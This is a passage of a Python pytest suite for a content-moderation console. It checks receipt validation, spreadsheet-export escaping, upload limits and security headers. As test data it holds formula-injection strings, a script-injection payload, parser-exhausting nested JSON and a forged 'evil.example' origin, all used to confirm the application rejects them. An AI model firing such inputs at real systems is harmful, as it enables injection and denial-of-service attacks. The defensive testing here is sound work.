    assert set(FORMULAS) <= values and set(MARKUP) <= values


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@x", "\t=1", "\r=1", "\x00=1+1"])
def test_spreadsheet_safe_prefixes_every_formula_start_owasp_and_asvs_name(value: str) -> None:
    from ugc_guard.console.exports import spreadsheet_safe

    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["plain", "a=b", "mail@example.org", "2024-05-01", "'quoted", ""])
def test_spreadsheet_safe_leaves_harmless_text_alone(value: str) -> None:
    from ugc_guard.console.exports import spreadsheet_safe

    assert spreadsheet_safe(value) == value


# -- 5. receipt verification input -----------------------------------------------------------------------


def check(client: TestClient, text: str, **files: Any) -> Any:
    return client.post("/console/receipt", data={"csrf": token(client, "/console/receipt"), "receipt": text}, files=files or None)


def error_of(page: str) -> str:
    match = re.search(r'<p class="error" id="error">(.*?)</p>', page, re.S)
    assert match is not None, page[:500]
    return match[1]


def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


NOT_RECEIPTS = [
    ("not-json", "{not json", "this is not JSON: Expecting property name enclosed in double quotes: line 1 column 2 (char 1)"),
    ("a-list", "[]", "not a ledger receipt: a receipt is a JSON object"),
    ("a-number", "42", "not a ledger receipt: a receipt is a JSON object"),
    ("null", "null", "not a ledger receipt: a receipt is a JSON object"),
    ("a-string", '"receipt"', "not a ledger receipt: a receipt is a JSON object"),
    ("empty-object", "{}", "not a ledger receipt: format must be &#39;ugc-guard-ledger-receipt/1&#39;"),
    ("nested-100000", nested(100_000), "this is not JSON a receipt can be: it is nested too deeply"),
    ("nested-object-30000", '{"a":' * 30_000 + "1" + "}" * 30_000, "this is not JSON a receipt can be: it is nested too deeply"),
    ("5000-digit-number", '{"entry_id": ' + "1" * 5000 + "}",
     "this is not JSON: Exceeds the limit (4300 digits) for integer string conversion: value has 5000 digits; "
     "use sys.set_int_max_str_digits() to increase the limit"),
    ("whitespace", "  \n\t ", "paste a receipt (JSON) or choose its file"),
    ("signed-without-entries", '{"format": "ugc-guard-receipt/2"}', "receipt field entries: must be a non-empty list of entries"),
    ("signed-empty-entries", '{"format": "ugc-guard-receipt/2", "entries": []}', "receipt field entries: must be a non-empty list of entries"),
    ("signed-entry-not-object", '{"format": "ugc-guard-receipt/2", "entries": ["x"]}', "receipt field entries: must be a non-empty list of entries"),
]


@pytest.mark.parametrize(("case", "text", "error"), NOT_RECEIPTS, ids=[row[0] for row in NOT_RECEIPTS])
def test_text_that_is_not_a_receipt_is_a_422_with_one_line(filled: Filled, case: str, text: str, error: str) -> None:
    answer = check(signed_in(filled), text)
    assert answer.status_code == 422 and error_of(answer.text) == error


def plain(filled: Filled, **changes: Any) -> str:
    data = json.loads(filled.plain_receipt)
    data.update(changes)
    return json.dumps(data)


@pytest.mark.parametrize(("field", "value", "error"), [
    ("entry_id", 10**30, "receipt: field entry_id is out of range"),
    ("entry_id", -(10**30), "receipt: field entry_id is out of range"),
    ("position", 2**63, "receipt: field position is out of range"),
    ("entry_id", 1e300, "receipt: field entry_id is missing or not a int"),
    ("entry_id", True, "receipt: field entry_id is missing or not a int"),
    ("entry_id", "1", "receipt: field entry_id is missing or not a int"),
    ("summary", [], "receipt: field summary is missing or not a dict"),
    ("related", {}, "receipt field related: must be a list"),
    ("related", [[]], "receipt field related[0]: must be an object"),
])
def test_receipt_fields_out_of_range_or_of_the_wrong_type_are_a_422(filled: Filled, field: str, value: Any, error: str) -> None:
    answer = check(signed_in(filled), plain(filled, **{field: value}))
    assert answer.status_code == 422 and error_of(answer.text) == error


@pytest.mark.parametrize("literal", ["Infinity", "-Infinity", "NaN", "1e999"])
def test_non_finite_numbers_are_not_entry_ids(filled: Filled, literal: str) -> None:
    text = re.sub(r'"entry_id": \d+', f'"entry_id": {literal}', filled.plain_receipt)
    answer = check(signed_in(filled), text)
    assert answer.status_code == 422 and error_of(answer.text) == "receipt: field entry_id is missing or not a int"


@pytest.mark.parametrize("signed", [False, True], ids=["plain", "signed"])
def test_a_deeply_nested_summary_that_json_still_reads_is_a_mismatch_not_a_crash(filled: Filled, signed: bool) -> None:
    summary: Any = 1
    for _ in range(900):  # below the interpreter's recursion limit of 1000: read, then compared and canonicalised
        summary = {"a": summary}
    data = json.loads(filled.signed_receipt if signed else filled.plain_receipt)
    (data["entries"][0] if signed else data)["summary"] = summary
    answer = check(signed_in(filled), json.dumps(data))
    assert answer.status_code == 200 and "This receipt does not check out" in answer.text
    entry = (data["entries"][0] if signed else data)["entry_id"]
    assert f"<li>entry {entry}: summary differs from the ledger</li>" in answer.text
    assert ('<li id="signature-check">Signature: invalid:' in answer.text) is signed


@pytest.mark.parametrize(("field", "value"), [("position", 999), ("kind", "terms_acceptance"), ("hash", "0" * 64),
                                              ("recorded_at", "2020-01-01T00:00:00Z"), ("subject", "mallory"),
                                              ("summary", {"rights": ["publish"]})])
def test_a_receipt_with_one_changed_field_does_not_check_out(filled: Filled, field: str, value: Any) -> None:
    answer = check(signed_in(filled), plain(filled, **{field: value}))
    assert answer.status_code == 200 and "This receipt does not check out" in answer.text
    entry = json.loads(filled.plain_receipt)["entry_id"]
    assert f"<li>entry {entry}: {field} differs from the ledger</li>" in answer.text


def test_a_receipt_pointing_at_another_entry_does_not_check_out(filled: Filled) -> None:
    data = json.loads(filled.plain_receipt)
    answer = check(signed_in(filled), plain(filled, entry_id=data["entry_id"] + 1))
    assert answer.status_code == 200 and "This receipt does not check out" in answer.text
    assert f"<li>entry {data['entry_id'] + 1}: hash differs from the ledger</li>" in answer.text


def test_a_receipt_for_an_entry_not_in_the_ledger_does_not_check_out(filled: Filled) -> None:
    answer = check(signed_in(filled), plain(filled, entry_id=2**63 - 1))
    assert answer.status_code == 200 and f"<li>entry {2**63 - 1}: not in the ledger</li>" in answer.text


@pytest.mark.parametrize("field", ["kind", "hash", "recorded_at", "position"])
def test_a_signed_receipt_with_one_changed_field_is_invalid(filled: Filled, field: str) -> None:
    data = json.loads(filled.signed_receipt)
    entry = data["entries"][0]
    entry[field] = 999 if field == "position" else ("0" * 64 if field == "hash" else ("x" if field == "kind" else "2020-01-01T00:00:00Z"))
    answer = check(signed_in(filled), json.dumps(data))
    assert answer.status_code == 200 and "This receipt does not check out" in answer.text
    assert '<li id="signature-check">Signature: invalid:' in answer.text
    assert f"<li>entry {entry['entry_id']}: {field} differs from the ledger</li>" in answer.text


def test_a_genuine_receipt_of_another_campaign_is_not_vouched_for(filled: Filled) -> None:
    """The same ledger holds campaign B; its genuine receipt is not a receipt of this console's campaign A."""
    ledger = Ledger(filled.url, secret=SECRET)
    receipt = ledger.record_acceptance("another-campaign", "zoe", TermsShown.from_policy(filled.policy, "en"),
                                       AgeResult("18+", "birth_date", "self-declared"), collection_method="click-wrap:unticked-checkbox",
                                       policy_digest="0" * 64, client=ClientInfo("192.0.2.1", "x"))
    ledger.close()
    answer = check(signed_in(filled), receipt.to_json())
    assert answer.status_code == 200 and "This receipt does not check out" in answer.text
    assert ("<li>the receipt is of campaign &#39;another-campaign&#39;, not of this console&#39;s campaign &#39;test-campaign&#39;</li>"
            in answer.text)
    assert 'id="open-submission"' not in answer.text


def test_a_receipt_file_that_is_not_utf8_asks_again(filled: Filled) -> None:
    answer = check(signed_in(filled), "", file=("receipt.json", b"\xff\xfe{\x00}\x00"))
    assert answer.status_code == 422 and error_of(answer.text) == "paste a receipt (JSON) or choose its file"


def test_two_receipt_files_are_a_400(filled: Filled) -> None:
    client = signed_in(filled)
    answer = client.post("/console/receipt", data={"csrf": token(client, "/console/receipt")},
                         files=[("file", ("a.json", b"{}")), ("file", ("b.json", b"{}"))])
    assert problem(answer) == (400, "invalid-request")


def test_an_oversized_receipt_post_is_a_413(filled: Filled) -> None:
    client = signed_in(filled)
    answer = check(client, "", file=("receipt.json", b" " * (MAX_RECEIPT_BYTES + 1)))
    assert problem(answer) == (413, "form-too-large")
    chunked = client.post("/console/receipt", content=(part for part in [b"csrf=x&receipt=", b"{}"]),
                          headers={"content-type": "application/x-www-form-urlencoded"})
    assert problem(chunked) == (413, "form-too-large")  # no Content-Length: refused before reading


def test_pasted_markup_is_escaped_back_into_the_form(filled: Filled) -> None:
    answer = check(signed_in(filled), '</textarea><script>alert(1)</script>')
    assert answer.status_code == 422 and "<script>alert(1)" not in answer.text
    assert "&lt;/textarea&gt;&lt;script&gt;alert(1)&lt;/script&gt;</textarea>" in answer.text


# -- 6. security headers ---------------------------------------------------------------------------------


def assert_headers(answer: Any) -> None:
    assert {name: answer.headers.get(name) for name in SECURITY_HEADERS} == SECURITY_HEADERS, answer.request.url


def test_every_page_signed_in_carries_the_security_headers(hostile: Filled) -> None:
    client = signed_in(hostile)
    for path in [*data_paths(hostile), "/console/console.css", "/console/login", "/console/nothing", "/console/submissions/0",
                 f"/console/submissions/{2**70}", "/console/takedowns/", "/console/?q=%C2%B2"]:
        for method in ("GET", "HEAD"):
            assert_headers(client.request(method, path, follow_redirects=False))
    assert_headers(client.options("/console/"))
    assert_headers(client.post("/console/receipt", data={"receipt": "{}"}))  # 403
    assert_headers(check(client, "{"))  # 422
    assert_headers(check(client, "", file=("r.json", b" " * (MAX_RECEIPT_BYTES + 1))))  # 413
    assert_headers(check(client, hostile.signed_receipt))  # 200


def test_every_refusal_signed_out_carries_the_security_headers(filled: Filled) -> None:
    client = mounted(filled)
    for path in data_paths(filled):
        assert_headers(client.get(path, follow_redirects=False))  # 303
    assert_headers(upstream(filled).get("/console/"))  # 401
    assert_headers(client.post("/console/login", data={"username": "legal"}))  # 403
    assert_headers(client.post("/console/login", content=b"x" * 5000, headers={"content-type": "application/x-www-form-urlencoded"}))
    assert_headers(client.post("/console/login", content=b"--x", headers={"content-type": "multipart/form-data"}))  # 400
    for _ in range(5):
        assert_headers(login_post(client, password="guess"))  # 401 page
    locked = login_post(client)
    assert locked.status_code == 429
    assert_headers(locked)
    assert_headers(mounted(filled).post("/console/logout", headers={"origin": "https://evil.example"}))


def test_the_ledger_data_pages_are_not_cached_anywhere(hostile: Filled) -> None:
    client = signed_in(hostile)
    for path in data_paths(hostile):
        answer = client.get(path)
        assert answer.status_code == 200 and answer.headers["cache-control"] == "no-store", path
        assert "etag" not in answer.headers and "last-modified" not in answer.headers


# -- bugs found by these cases: numbers the database cannot hold, digits int() cannot read ---------------


@pytest.mark.parametrize(("query", "read_as"), [("²", "subject pseudonym"), ("١٢", "subject pseudonym"), ("9" * 20, "entry or receipt id"),
                                                ("9" * 199, "entry or receipt id"), (str(2**63), "entry or receipt id"),
                                                ("00000000000000000000001", "entry or receipt id")])
def test_searches_for_odd_numbers_find_nothing_instead_of_failing(filled: Filled, query: str, read_as: str) -> None:
    client = signed_in(filled)
    page = client.get("/console/", params={"q": query})
    assert page.status_code == 200 and f"Read as: {read_as}." in page.text
    assert client.get("/console/", params={"q": query, "format": "json"}).json() == (
        [] if query != "00000000000000000000001" else client.get("/console/", params={"q": "1", "format": "json"}).json())


@pytest.mark.parametrize("submission_id", [str(2**63), "9" * 30, "9" * 500])
def test_a_submission_id_too_large_for_the_database_is_not_found(filled: Filled, submission_id: str) -> None:
    answer = signed_in(filled).get(f"/console/submissions/{submission_id}")
    assert problem(answer) == (404, "not-found") and answer.json()["detail"] == f"no submission {submission_id} in campaign test-campaign"


def test_a_submission_of_another_campaign_is_not_found(filled: Filled) -> None:
    ledger = Ledger(filled.url, secret=SECRET)
    entry = ledger.record_acceptance("another-campaign", "zoe", TermsShown.from_policy(filled.policy, "en"),
                                     AgeResult("18+", "birth_date", "self-declared"), collection_method="click-wrap:unticked-checkbox",
                                     policy_digest="0" * 64, client=ClientInfo("192.0.2.1", "x")).entry_id
    ledger.close()
    client = signed_in(filled)
    assert problem(client.get(f"/console/submissions/{entry}")) == (404, "not-found")
    page = client.get("/console/", params={"q": str(entry)})
    assert "Nothing found in campaign test-campaign." in page.text
